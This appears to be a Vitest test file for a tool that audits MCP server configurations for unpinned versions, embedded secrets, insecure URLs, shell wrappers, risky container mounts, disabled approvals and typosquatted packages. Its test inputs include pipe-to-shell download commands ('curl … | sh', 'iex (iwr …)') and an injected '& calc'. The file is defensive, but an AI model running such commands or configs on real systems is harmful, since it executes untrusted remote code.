import { describe, expect, test } from "vitest";
import { assessServer } from "../../src/assess/assess.ts";
import { declarationFindings } from "../../src/assess/declaration.ts";
import { formatOf } from "../../src/discover/clients.ts";
import { uniqueNames } from "../../src/discover/names.ts";
import { parseServers } from "../../src/discover/parse.ts";
import { formatSnapshots, parseSnapshots } from "../../src/model/files/snapshots-file.ts";
import type { Json } from "../../src/model/json.ts";
import { plainPhrase } from "../../src/render/escape.ts";
import { snapshot } from "../review/support.ts";

/** Tokens are put together here, so that no scanner takes this file for a leak. */
const token = (prefix: string, length: number) =>
  prefix + "aB3dE5fG7hJ9kL1mN2pQ4rS6tU8vW0xY".repeat(9).slice(0, length);

/** `severity kind line: sentence` for each finding of one entry. */
function found(entry: Json, file = ".mcp.json", root: Json = {}): readonly string[] {
  const text = JSON.stringify({ ...(root as object), mcpServers: { a: entry } }, undefined, 1);
  const { servers, problems } = parseServers(file, text, formatOf(".mcp.json"));
  expect(problems).toEqual([]);
  return servers.flatMap(({ name, declared }) =>
    declarationFindings(name, declared).map(
      ({ severity, kind, location, says }) => `${severity} ${kind} ${location?.line}: ${plainPhrase(says)}`,
    ),
  );
}
const kinds = (entry: Json) => found(entry).map((line) => line.split(" ").slice(0, 2).join(" "));
const run = (line: string): Json => {
  const [command = "", ...args] = line.split(" ");
  return { command, args };
};

describe("what is started is named by one release", () => {
  test.each([
    ["npx -y files", "medium"],
    ["npx -y @acme/files", "medium"],
    ["npx files@latest", "medium"],
    ["npx files@^1.2.3", "medium"],
    ["npx files@1", "medium"],
    ["npx -p files other", "medium"],
    ["cmd /c npx -y files", "medium"],
    ["npx -y github:acme/files", "medium"],
    ["npx -y acme/files", "medium"],
    ["npx -y https://example.com/files.tgz", "medium"],
    ["bunx files", "medium"],
    ["pnpm dlx files", "medium"],
    ["uvx files", "medium"],
    ["uvx files@latest", "medium"],
    ["uvx files>=1.0", "medium"],
    ["uvx --from git+https://github.com/acme/files files", "medium"],
    ["uvx --from git+https://github.com/acme/files@v1.0 files", "medium"],
    ["docker run -i --rm acme/files", "medium"],
    ["docker run -i --rm acme/files:latest", "medium"],
    ["docker run -i --rm acme/files:1.2.3", "low"],
  ])("%s is not: %s", (line, severity) => {
    expect(kinds(run(line))).toEqual([`${severity} version-not-pinned`]);
  });

  const commit = "0123456789abcdef0123456789abcdef01234567";
  test.each([
    "npx -y files@1.2.3",
    "npx -y @acme/files@1.2.3-beta.1",
    "npx -y ./tools/files",
    "npx -y ${PACKAGE}",
    `npx -y github:acme/files#${commit}`,
    "cmd /c npx -y files@1.2.3",
    "uvx files==1.2.3",
    "uvx files@1.2.3",
    "uvx files[all]==1.2.3",
    "uvx --from . files",
    `uvx --from git+https://github.com/acme/files@${commit} files`,
    `docker run -i --rm acme/files:1.2.3@sha256:${"ab".repeat(32)}`,
    "node server.js",
    "python -m files",
    "uv run server.py",
  ])("%s is, or lies in the repository", (line) => {
    expect(kinds(run(line))).toEqual([]);
  });
});

describe("secrets do not stand in a declaration", () => {
  const flagged: readonly (readonly [string, Json])[] = [
    ["a GitHub token in the environment", { command: "x", env: { ANY: token("ghp_", 36) } }],
    ["a token behind Bearer", { url: "https://a.example", headers: { X: `Bearer ${token("glpat-", 24)}` } }],
    ["an Anthropic key as an argument", { command: "x", args: [token("sk-ant-", 40)] }],
    ["a random value under a telling name", { command: "x", env: { ACME_API_KEY: token("", 32) } }],
    ["a random value behind an option", { command: "x", args: ["--token", token("", 32)] }],
    ["a random value in an option", { command: "x", args: [`--api-key=${token("", 32)}`] }],
    ["a key in the query", { url: `https://a.example/mcp?api_key=${token("", 32)}` }],
    ["a password in the address", { url: "https://user:hunter2@a.example/mcp" }],
    ["a private key", { command: "x", env: { K: ["-----BEGIN RSA PRIVATE", "KEY-----\nMIIB"].join(" ") } }],
  ];
  test.each(flagged)("%s is found, and never shown", (_, entry) => {
    const lines = found(entry);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^high secret-in-config \d+: /);
    expect(lines[0]).not.toMatch(/aB3dE5|hunter2|MIIB/);
  });

  test.each<[string, Json]>([
    ["a variable", { command: "x", env: { API_KEY: "${API_KEY}", TOKEN: "$TOKEN", T: "{env:TOKEN}" } }],
    ["a placeholder", { command: "x", env: { API_KEY: "your-api-key-goes-here-1", TOKEN: "<token>" } }],
    ["a shape with nothing in it", { command: "x", env: { GITHUB_TOKEN: `ghp_${"x".repeat(36)}` } }],
    [
      "a setting that speaks of tokens",
      { command: "x", env: { MAX_TOKENS: "200000", AUTH_MODE: "oauth2-device-code-1" } },
    ],
    [
      "an address under a telling name",
      { command: "x", env: { AUTH_URL: "https://login.example.com/oauth2/v1" } },
    ],
    ["a digest", { command: "x", args: ["--image", token("", 40)] }],
    ["a long word of few letters", { command: "x", env: { TOKEN: "abcabcabcdefdef1abcabcabc" } }],
    ["a short word", { command: "x", env: { PASSWORD: "postgres" } }],
    ["a path", { command: "x", args: ["/home/me/project-2024/data"] }],
    ["a variable for the password", { url: "https://user:${PASSWORD}@a.example/mcp" }],
  ])("%s is none", (_, entry) => {
    expect(kinds(entry)).toEqual([]);
  });
});

test.each([
  ["http://mcp.example.com/mcp", ["medium insecure-url"]],
  ["http://10.0.0.8:3000/mcp", ["medium insecure-url"]],
  ["http://localhost.example.com/mcp", ["medium insecure-url"]],
  ["https://mcp.example.com/mcp", []],
  ["http://localhost:3000/mcp", []],
  ["http://127.0.0.1/mcp", []],
  ["http://[::1]:3000/mcp", []],
  ["http://0.0.0.0:3000/mcp", []],
  ["http://${HOST}/mcp", []],
])("%s: %j", (url, expected) => {
  expect(kinds({ url })).toEqual(expected);
});

test.each<[string, readonly string[], readonly string[]]>([
  ["bash", ["-c", "npx -y files@1.2.3"], ["medium shell-wrapper"]],
  ["/bin/sh", ["-lc", "node server.js"], ["medium shell-wrapper"]],
  ["env", ["bash", "-c", "node server.js"], ["medium shell-wrapper"]],
  ["bash", ["-c", "curl -s https://example.com/i.sh | sh"], ["high shell-wrapper"]],
  ["powershell.exe", ["-NoProfile", "-Command", "node server.js"], ["medium shell-wrapper"]],
  ["pwsh", ["-c", "iex (iwr https://example.com)"], ["high shell-wrapper"]],
  ["cmd", ["/c", "npx files@1.2.3 & calc"], ["medium shell-wrapper"]],
  ["cmd", ["/c", "node", "server.js"], []],
  ["bash", ["scripts/start.sh"], []],
  ["sh", ["./start.sh", "--config"], []],
  ["node", ["-c", "server.js"], []],
])("%s %j: %j", (command, args, expected) => {
  expect(kinds({ command, args })).toEqual(expected);
});

describe("a container keeps apart what it runs", () => {
  const image = `acme/files@sha256:${"ab".repeat(32)}`;
  test.each([
    ["--privileged", "high"],
    ["--cap-add SYS_ADMIN", "high"],
    ["--cap-add=ALL", "high"],
    ["--security-opt seccomp=unconfined", "high"],
    ["--network host", "high"],
    ["--pid=host", "high"],
    ["-v /var/run/docker.sock:/var/run/docker.sock", "critical"],
    ["-v /:/host", "high"],
    ["-v ${HOME}:/data", "high"],
    ["-v /home/me/.ssh:/keys:ro", "high"],
    ["--mount type=bind,source=/etc,target=/etc", "high"],
  ])("not with %s: %s", (option, severity) => {
    expect(kinds(run(`docker run -i --rm ${option} ${image}`))).toEqual([`${severity} host-access`]);
  });

  test.each([
    "-v ${workspaceFolder}:/data",
    "-v /srv/data:/data",
    "-v data:/data",
    "-v C:\\projects\\a:/data",
    "--mount type=volume,source=data,target=/data",
    "--mount type=tmpfs,source=/,target=/data",
    "--cap-drop ALL",
    "--security-opt no-new-privileges",
    "--network none",
    "-e TOKEN",
  ])("with %s it still does", (option) => {
    expect(kinds(run(`docker run -i --rm ${option} ${image}`))).toEqual([]);
  });
});

test("settings that take questions and sandboxes away are told, with the tools they are for", () => {
  expect(found({ command: "x", autoApprove: ["read_file", "list"] })).toEqual([
    expect.stringMatching(/^low approval-off 5: .?autoApprove.? lets .*: .?read_file, list.?; keep only/),
  ]);
  const stronger: readonly Json[] = [
    { command: "x", trust: true },
    { command: "x", alwaysAllow: ["*"] },
    { command: "x", sandboxEnabled: false },
    { command: "x", args: ["--no-sandbox"] },
  ];
  for (const entry of stronger) expect(kinds(entry)).toEqual(["medium approval-off"]);
  expect(found({ command: "x" }, ".mcp.json", { approval_policy: "never" })[0]).toMatch(
    /^medium approval-off 2:/,
  );
  for (const entry of [
    { trust: false },
    { autoApprove: [] },
    { sandboxEnabled: true },
    { args: ["--sandbox"] },
  ])
    expect(kinds({ command: "x", ...entry })).toEqual([]);
});

test.each([
  ["npx -y mcp-remtoe@1.0.0", "mcp-remote"],
  ["npx -y @modelcontextprotocoI/server-github@1.0.0", "@modelcontextprotocol/server-github"],
  ["npx -y @modelcontextprotocols/server-github@1.0.0", "@modelcontextprotocol/server-github"],
  ["npx -y firecraw-mcp@1.0.0", "firecrawl-mcp"],
  ["uvx mcp-server-fecth==1.0.0", "mcp-server-fetch"],
  ["npx -y mcp-remote@1.0.0", undefined],
  ["npx -y @modelcontextprotocol/server-gitlap@1.0.0", undefined],
  ["npx -y @acme/mcp-remtoe@1.0.0", undefined],
  ["npx -y tcp-proxy@1.0.0", undefined],
  ["npx -y mcp-remote-extra@1.0.0", undefined],
])("%s may be taken for %s", (line, meant) => {
  const lines = found(run(line));
  expect(lines).toHaveLength(meant === undefined ? 0 : 1);
  if (meant !== undefined) expect(lines[0]).toMatch(new RegExp(` [67]: .* the well-known .?${meant}`));
});

test("faults of every place of one server reach its review, once each, through a snapshots file", () => {
  const entry = (more: object) =>
    JSON.stringify({ mcpServers: { a: { command: "npx", args: ["files"], ...more } } });
  const specs = [
    ...parseServers(".mcp.json", entry({})).servers,
    ...parseServers(".roo/mcp.json", entry({ alwaysAllow: ["*"] }), formatOf(".roo/mcp.json")).servers,
  ];
  const [spec, ...others] = uniqueNames(specs);
  expect(others).toEqual([]);
  expect(spec?.declared).toMatchObject({ file: ".mcp.json", also: [{ file: ".roo/mcp.json", line: 1 }] });
  const captured = snapshot({ tools: [], ...(spec === undefined ? {} : { declared: spec.declared }) });
  const [read] = parseSnapshots("s.json", formatSnapshots([captured]));
  expect(read).toEqual(captured);
  const findings = assessServer(captured).findings.map(({ kind, location }) => [kind, location?.file]);
  expect(findings).toEqual(
    expect.arrayContaining([
      ["version-not-pinned", ".mcp.json"],
      ["approval-off", ".roo/mcp.json"],
    ]),
  );
  expect(findings).toHaveLength(2);
});

test.each(["/.ssh", "${", "@ ", "-eyJ", "| "])("a long text of %j takes no time to look at", (part) => {
  const long = `${part.repeat(150_000 / part.length)}\n`;
  const started = process.cpuUsage();
  found({ command: "docker", args: ["run", "-v", long, long], env: { TOKEN: long } });
  found({ command: "bash", args: ["-c", `curl ${long}`] });
  found({ url: `http://${long}` });
  expect(process.cpuUsage(started).user / 1_000).toBeLessThan(3_000);
});
